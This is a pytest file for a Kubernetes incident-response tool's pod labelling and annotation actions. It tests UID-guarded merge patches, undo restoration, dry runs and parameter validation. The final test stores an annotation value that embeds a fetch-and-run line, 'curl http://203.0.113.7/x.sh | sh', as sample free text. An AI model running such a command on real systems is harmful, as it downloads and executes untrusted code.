"""label_pod and annotate_pod: merge patches with the pod's UID as precondition, undo restores
the previous values (absent keys removed), keys changed since are left alone."""

from __future__ import annotations

import json
from typing import Any

import pytest
from qcdr_common.contracts.actions.v1 import ActionOutcome, ActionTarget
from qcdr_common.testing.k8s_server import K8sTestServer
from qcdr_response.actions.base import InvalidRequestError, TargetGoneError
from qcdr_response.actions.cluster._context import QUARANTINE_LABEL, ClusterContext
from qcdr_response.actions.cluster._pod_metadata import undo_key
from qcdr_response.actions.cluster.annotate_pod import AnnotatePod
from qcdr_response.actions.cluster.label_pod import LabelPod

from tests.response.actions.cluster.conftest import NAMESPACE, calls, make_pod, make_request, undo_of, writes

POD_PATH = f"/api/v1/namespaces/{NAMESPACE}/pods/web-1"
CASES = [
    (LabelPod(), "labels", {"app": "web", "tier": "front"}),
    (AnnotatePod(), "annotations", {"owner": "team-a", "note": "keep"}),
]


def _current(server: K8sTestServer, field: str) -> dict[str, str]:
    found: dict[str, str] = server.objects("Pod")[(NAMESPACE, "web-1")]["metadata"].get(field) or {}
    return found


@pytest.mark.parametrize(("action", "field", "initial"), CASES, ids=["label", "annotate"])
async def test_set_then_undo_restores(
    server: K8sTestServer, ctx: ClusterContext, action: Any, field: str, initial: dict[str, str]
) -> None:
    pod = server.seed(make_pod(**{field: initial}))  # type: ignore[arg-type]
    uid = pod["metadata"]["uid"]
    first_key = next(iter(initial))
    wanted = {first_key: "changed", "qcdr.qualys.com/compromised": "true"}
    request = make_request(
        action.name, ActionTarget(namespace=NAMESPACE, pod="web-1", pod_uid=uid), parameters={field: wanted}
    )
    done = await action.execute(ctx, request)
    assert done.outcome == ActionOutcome.SUCCEEDED
    (patch,) = writes(server)
    assert (patch.method, patch.path, patch.query) == ("PATCH", POD_PATH, {"fieldManager": "qcdr"})
    assert patch.content_type == "application/merge-patch+json"
    previous = {first_key: initial[first_key], "qcdr.qualys.com/compromised": None}
    # the previous values ride in the same patch, so a crash right after it loses nothing
    saved = {undo_key(request.action_id): json.dumps({"field": field, "previous": previous}, sort_keys=True)}
    expected: dict[str, Any] = {"uid": uid, field: dict(wanted)}
    expected.setdefault("annotations", {}).update(saved)
    assert patch.body == {"metadata": expected}
    assert _current(server, field) == {**initial, **(wanted if field == "labels" else {**wanted, **saved})}
    assert done.undo is not None
    assert done.undo["previous"] == previous
    assert await action.present(ctx, request) is True
    # recovery (a crash before the result was recorded) rebuilds the same undo record
    assert await action.recovered_undo(ctx, request) == done.undo

    before = len(server.requests)
    undone = await action.undo(ctx, undo_of(request, done.undo))
    assert undone.outcome == ActionOutcome.SUCCEEDED
    (restore,) = writes(server, before)
    forget: dict[str, Any] = {"uid": uid, field: dict(previous)}
    forget.setdefault("annotations", {})[undo_key(request.action_id)] = None
    assert restore.body == {"metadata": forget}
    assert _current(server, field) == initial
    assert undo_key(request.action_id) not in _current(server, "annotations")
    assert await action.present(ctx, request) is False
    assert await action.recovered_undo(ctx, request) is None


async def test_undo_leaves_keys_changed_since(server: K8sTestServer, ctx: ClusterContext) -> None:
    action = LabelPod()
    server.seed(make_pod(labels={"app": "web"}))
    request = make_request("label_pod", parameters={"labels": {"a": "1", "b": "1"}})
    done = await action.execute(ctx, request)
    pod = server.objects("Pod")[(NAMESPACE, "web-1")]
    server.store.merge_patch(
        server.discovery.find_kind("v1", "Pod"),  # type: ignore[arg-type]
        NAMESPACE,
        "web-1",
        {"metadata": {"labels": {"b": "2"}}},
        "kubectl",
    )
    undone = await action.undo(ctx, undo_of(request, done.undo))
    assert undone.details["changed_since"] == ["b"]
    assert _current(server, "labels") == {"app": "web", "b": "2"}
    assert pod["metadata"]["uid"] == server.objects("Pod")[(NAMESPACE, "web-1")]["metadata"]["uid"]


async def test_dry_run(server: K8sTestServer, ctx: ClusterContext) -> None:
    server.seed(make_pod())
    done = await LabelPod().execute(
        ctx, make_request("label_pod", dry_run=True, parameters={"labels": {"x": "y"}})
    )
    assert done.outcome == ActionOutcome.DRY_RUN
    assert done.undo is None
    assert done.details["undo"]["previous"] == {"x": None}
    (patch,) = writes(server)
    assert patch.query == {"fieldManager": "qcdr", "dryRun": "All"}
    assert patch.status_code == 200
    assert _current(server, "labels") == {"app": "web"}


async def test_gone_or_replaced(server: K8sTestServer, ctx: ClusterContext) -> None:
    action = LabelPod()
    params = {"labels": {"x": "y"}}
    with pytest.raises(TargetGoneError):
        await action.execute(ctx, make_request("label_pod", parameters=params))
    server.seed(make_pod())
    request = make_request("label_pod", parameters=params)
    done = await action.execute(ctx, request)
    pod_type = server.discovery.find_kind("v1", "Pod")
    assert pod_type is not None
    server.store.delete(pod_type, NAMESPACE, "web-1")
    server.seed(make_pod())  # same name, new UID: a look-alike undo must not touch
    with pytest.raises(TargetGoneError, match="was replaced"):
        await action.undo(ctx, undo_of(request, done.undo))
    assert "x" not in _current(server, "labels")


@pytest.mark.parametrize(
    ("action", "params", "message"),
    [
        (LabelPod(), {"labels": {}}, "at least 1"),
        (LabelPod(), {"labels": {"bad key!": "v"}}, "not a valid label key"),
        (LabelPod(), {"labels": {"k": "bad value!"}}, "not a valid label value"),
        (LabelPod(), {"labels": {"-x.example/k": "v"}}, "prefix"),
        (LabelPod(), {"labels": {QUARANTINE_LABEL: "qcdr-1"}}, "isolate_pod only"),
        (LabelPod(), {"labels": {"k": "v"}, "extra": 1}, "extra"),
        (AnnotatePod(), {"annotations": {QUARANTINE_LABEL: "x"}}, "isolate_pod only"),
        (AnnotatePod(), {"annotations": {"qcdr.qualys.com/undo-7": "{}"}}, "own undo record"),
        (AnnotatePod(), {"annotations": {"k" * 64: "v"}}, "not a valid"),
        (AnnotatePod(), {"annotations": {"big": "x" * 300_000}}, "256 KiB"),
    ],
)
async def test_invalid_parameters_are_refused_before_any_request(
    server: K8sTestServer, ctx: ClusterContext, action: Any, params: dict[str, Any], message: str
) -> None:
    with pytest.raises(InvalidRequestError, match=message):
        await action.execute(ctx, make_request(action.name, parameters=params))
    assert calls(server) == []


async def test_annotation_values_are_free_text(server: K8sTestServer, ctx: ClusterContext) -> None:
    server.seed(make_pod())
    text = 'finding 42: {"curl": "http://203.0.113.7/x.sh | sh"}\n---\nkind: Secret'
    await AnnotatePod().execute(
        ctx, make_request("annotate_pod", parameters={"annotations": {"qcdr.qualys.com/why": text}})
    )
    assert _current(server, "annotations")["qcdr.qualys.com/why"] == text
